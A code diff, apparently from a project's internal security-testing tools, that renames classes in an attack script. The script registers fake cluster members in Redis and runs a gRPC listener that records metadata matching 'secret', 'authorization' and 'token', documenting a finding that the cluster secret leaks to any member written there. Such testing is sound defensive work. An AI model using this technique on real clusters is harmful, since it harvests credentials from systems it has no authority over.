@@ -8,17 +8,17 @@ import grpc
 import grpc.aio
 import redis.asyncio
 
-from tools.attacks.target import Target
+from tools.attacks.target import AttackTarget
 
 FINDING = "3: Redis is trusted: a member written there is told the cluster secret"
 
 SECRET_WORDS = ("secret", "authorization", "token")
 
 
-class _Ear(grpc.GenericRpcHandler):
+class _CallRecorder(grpc.GenericRpcHandler):
     """Refuses every call, and notes what its metadata tell."""
 
-    def __init__(self, target: Target) -> None:
+    def __init__(self, target: AttackTarget) -> None:
         self._target = target
 
     def service(self, details: grpc.HandlerCallDetails) -> Any:
@@ -30,9 +30,9 @@ class _Ear(grpc.GenericRpcHandler):
         return None
 
 
-async def attack(target: Target) -> None:
+async def attack(target: AttackTarget) -> None:
     """Writes copies of real members under other names, at an address of the attacker's."""
-    server = grpc.aio.server(handlers=[_Ear(target)])
+    server = grpc.aio.server(handlers=[_CallRecorder(target)])
     port = server.add_insecure_port("127.0.0.1:0")
     await server.start()
     registry = redis.asyncio.Redis.from_url(target.redis_url)
